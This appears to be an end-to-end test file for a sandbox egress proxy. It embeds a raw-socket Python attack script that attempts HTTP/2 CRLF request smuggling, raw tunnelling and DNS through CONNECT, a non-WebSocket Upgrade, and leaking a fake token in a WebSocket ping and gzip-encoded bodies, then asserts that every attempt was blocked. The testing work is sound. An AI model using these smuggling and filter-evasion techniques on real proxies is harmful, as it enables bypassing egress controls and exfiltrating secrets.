"""Protocol attacks on the egress from inside a real bottle, on every backend.

The agent is an attack script (python3, raw sockets, hand-framed HTTP/2: the bottle has
no h2 library): HTTP/2 header CRLF smuggling and an unframed HTTP/2 body, raw bytes in a
CONNECT tunnel, a non-WebSocket `Upgrade`, CONNECT to port 53 (DNS over TCP), a body
in `Transfer-Encoding: gzip, chunked` or `Content-Encoding: x-gzip` (scanned
compressed, decoded upstream), and a
secret in a WebSocket ping. The assertions are on what the recording servers on the host
received, never on what the bottle saw. One ordinary request must still reach the
upstream with the injected credential, so a bottle that cannot talk at all cannot pass.
"""

from __future__ import annotations

import json
import random
import sys
import time
from pathlib import Path

import pytest
from e2e_support import base_env, bb, hand_over, need, trust

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "integration" / "egress"))

from egress_raw import Recorder
from egress_upstream import Upstream

pytestmark = pytest.mark.e2e
TOKEN = "sk-e2e-protocol-FAKE-0123456789abcdef"

ATTACK = r"""
import base64, json, os, socket, ssl, struct, urllib.parse
P = json.loads(os.environ["ATTACK_PARAMS"])
proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
r = {}

def attempt(name, fn):
    try:
        r[name] = "OK " + str(fn())[:300]
    except Exception as e:
        r[name] = f"FAIL {type(e).__name__}: {e}"[:300]

def tunnel(host, port):
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(4096)
        if not c:
            raise ConnectionError("proxy closed: " + repr(head))
        head += c
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise PermissionError(head.split(b"\r\n")[0].decode())
    return s

def tls(host, port, alpn=None):
    ctx = ssl.create_default_context()
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx.wrap_socket(tunnel(host, port), server_hostname=host)

def drain(s, t=3):
    s.settimeout(t)
    out = b""
    try:
        while c := s.recv(65536):
            out += c
            s.settimeout(0.5)
    except OSError:
        pass
    return out

def hint(n):
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    return bytes(out + [n])

def hpack(fields):
    # Literal header fields without indexing, new names, no Huffman coding.
    return b"".join(b"\x00" + hint(len(k)) + k + hint(len(v)) + v for k, v in fields)

def frame(typ, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([typ, flags]) + struct.pack("!I", stream) + payload

def h2(fields, body=None):
    s = tls("api.example.test", P["up"], ["h2"])
    if s.selected_alpn_protocol() != "h2":
        raise RuntimeError("no h2")
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
    out += frame(1, 0x4 | (0 if body else 0x1), 1, hpack(fields))
    if body:
        out += frame(0, 0x1, 1, body)
    s.sendall(out)
    got = drain(s)
    s.close()
    return f"{len(got)} bytes back"

auth = f"api.example.test:{P['up']}".encode()
def h2_head(path, method=b"GET"):
    return [(b":method", method), (b":scheme", b"https"), (b":authority", auth), (b":path", path)]

smuggled = f"GET /v2/smuggled-{P['m']} HTTP/1.1\r\nHost: api.example.test\r\n\r\n".encode()
# Ends in a header, not CRLF (HTTP/2 itself refuses surrounding whitespace): the proxy's
# own header lines and final CRLF complete the smuggled request, injected token and all.
inject = b"v\r\n\r\n" + smuggled.rstrip() + b"\r\nx-m: " + P["m"].encode()
attempt("h2_crlf_header", lambda: h2(h2_head(f"/v1/h2crlf-{P['m']}".encode())
                                       + [(b"x-a", inject)]))
attempt("h2_unframed_body", lambda: h2(h2_head(f"/v1/h2body-{P['m']}".encode(), b"POST"),
                                       body=smuggled))

def raw_tcp():
    s = tunnel("raw.example.test", P["raw"])
    s.sendall(b"\x00\x01raw-bytes-" + P["m"].encode() + b"\n")
    return drain(s)
attempt("raw_in_connect", raw_tcp)

def upgrade():
    s = tls("api.example.test", P["up"])
    s.sendall(f"GET /v1/upgrade-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
              "Upgrade: raw-tcp\r\nConnection: Upgrade\r\n\r\n".encode())
    head = s.recv(4096)
    try:
        s.sendall(f"RAW-AFTER-UPGRADE-{P['m']}\n".encode())
    except OSError:
        pass
    drain(s, 2)
    return head.split(b"\r\n")[0]
attempt("non_ws_upgrade", upgrade)

def dns():
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p for p in (P["m"].encode(), b"example", b"com")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    s = tunnel("dns.example.test", 53)
    s.sendall(struct.pack("!H", len(q)) + q)
    return drain(s)
attempt("dns_over_connect", dns)

def wsframe(op, data):
    mask = os.urandom(4)
    n = len(data)
    head = bytes([0x80 | op]) + (bytes([0x80 | n]) if n < 126 else bytes([0xFE]) + struct.pack("!H", n))
    return head + mask + bytes(c ^ mask[i % 4] for i, c in enumerate(data))

def ws_ping():
    s = tls("api.example.test", P["up"])
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET /ws HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\nUpgrade: websocket\r\n"
              f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    if not head.startswith(b"HTTP/1.1 101"):
        raise RuntimeError(head[:40])
    s.sendall(wsframe(9, ("ping " + P["secret"]).encode()))
    try:
        s.sendall(wsframe(1, f"after-{P['m']}".encode()))
    except OSError:
        pass
    left = drain(s)
    return f"closed after {len(left)} bytes"
attempt("ws_secret_ping", ws_ping)

def te_gzip():
    # The secret compressed as a transfer coding: scanned compressed, decoded upstream.
    import gzip
    packed = gzip.compress(("leak=" + P["secret"]).encode())
    s = tls("api.example.test", P["up"])
    s.sendall(f"POST /v1/tegzip-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
              "Transfer-Encoding: gzip, chunked\r\nConnection: close\r\n\r\n".encode()
              + f"{len(packed):x}\r\n".encode() + packed + b"\r\n0\r\n\r\n")
    return drain(s).split(b"\r\n")[0]
attempt("te_gzip", te_gzip)

def ce_xgzip():
    # x-gzip is gzip (RFC 9110) to the upstream, an unknown coding to mitmproxy's decoder.
    import gzip
    packed = gzip.compress(("leak=" + P["secret"]).encode())
    s = tls("api.example.test", P["up"])
    s.sendall(f"POST /v1/cexgzip-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
              f"Content-Encoding: x-gzip\r\nContent-Length: {len(packed)}\r\n"
              "Connection: close\r\n\r\n".encode() + packed)
    return drain(s).split(b"\r\n")[0]
attempt("ce_xgzip", ce_xgzip)

def ordinary():
    s = tls("api.example.test", P["up"])
    s.sendall(f"GET /v1/ok-{P['m']} HTTP/1.1\r\nHost: api.example.test:{P['up']}\r\n"
              "Connection: close\r\n\r\n".encode())
    return drain(s).split(b"\r\n")[0]
attempt("ordinary", ordinary)
print(json.dumps(r))
"""


def test_protocol_attacks_from_a_bottle(
    tmp_path: Path, any_backend: str, upstream: Upstream
) -> None:
    import os

    need(os.geteuid() == 0, "the DNS recorder binds port 53 on a loopback address (needs root)")
    raw = Recorder("127.0.0.1", reply=b"RAW-SERVER-REPLY\n").start()
    for _ in range(20):
        dns_addr = f"127.0.{random.randint(1, 250)}.{random.randint(2, 250)}"
        try:
            dns = Recorder(dns_addr, port=53, reply=b"\x00\x02ok").start()
            break
        except OSError:
            continue
    else:
        pytest.fail("no free loopback address for the DNS recorder")
    try:
        run_attack(tmp_path, any_backend, upstream, raw, dns)
    finally:
        raw.stop()
        dns.stop()


def run_attack(tmp_path: Path, backend: str, up: Upstream, raw: Recorder, dns: Recorder) -> None:
    marker = f"e2e{random.randrange(16**8):08x}"
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "attack.py").write_text(ATTACK)
    hand_over(ws)
    params = {"up": up.port, "raw": raw.port, "m": marker, "secret": TOKEN}
    (tmp_path / "bot-bottle.yaml").write_text(f"""
bottles:
  b:
    agent_provider:
      template: command
      command: [sh, -c, "python3 /workspace/attack.py > /workspace/attack.json"]
    egress:
      hosts: {{api.example.test: 127.0.0.1, raw.example.test: 127.0.0.1,
              dns.example.test: {dns.host}}}
      upstream_ca: {up.ca_path}
      ssrf_ip_allowlist: [127.0.0.1/32, {dns.host}/32]
      routes:
        - host: api.example.test
          port: {up.port}
          auth: {{scheme: Bearer, token_ref: FAKE_PROTO_TOKEN}}
        - host: raw.example.test
          port: {raw.port}
        - host: dns.example.test
          port: 53
    env:
      ATTACK_PARAMS: '{json.dumps(params)}'
    workspace: {{mode: mount, path: ws}}
    backend: {backend}
agents:
  attack: {{bottle: b}}
""")
    env = base_env(tmp_path)
    env["FAKE_PROTO_TOKEN"] = TOKEN
    trust(env, tmp_path)
    r = bb(["run", "attack", "-y"], env, tmp_path, timeout=240)
    assert r.returncode == 0, r.stderr
    results = json.loads((ws / "attack.json").read_text())
    time.sleep(0.5)  # a smuggled request would be handled after the first one's answer

    # The bottle can talk: the ordinary request got through, with the injected token.
    assert results["ordinary"].startswith("OK b'HTTP/1.1 200"), results
    ok = [q for q in up.records if q.path == f"/v1/ok-{marker}"]
    assert ok and ok[0].header("authorization") == f"Bearer {TOKEN}", results

    # Every class is checked, so one run shows each that got through.
    paths = [q.path for q in up.records]
    body = [q for q in up.records if q.path == f"/v1/h2body-{marker}"]
    frames = list(up.ws_frames)
    leaks = {
        "h2_crlf_header": [p for p in paths if f"h2crlf-{marker}" in p or "/v2/smuggled-" in p],
        "h2_unframed_body": [
            q.path for q in body if q.header("content-length") != str(len(q.body))
        ],
        "raw_in_connect": raw.received if raw.all_bytes() else [],
        "raw_reply_reached_bottle": "RAW-SERVER-REPLY" in results["raw_in_connect"],
        "non_ws_upgrade": [d for d in up.upgraded if marker.encode() in d]
        or ("101" in results["non_ws_upgrade"]),
        "dns_over_connect": dns.received if dns.all_bytes() else [],
        "ws_secret_ping": [d for _, d in frames if TOKEN.encode() in d or marker.encode() in d],
        "te_gzip": [p for p in paths if f"tegzip-{marker}" in p],
        "ce_xgzip": [p for p in paths if f"cexgzip-{marker}" in p],
    }
    assert {k: v for k, v in leaks.items() if v} == {}, results
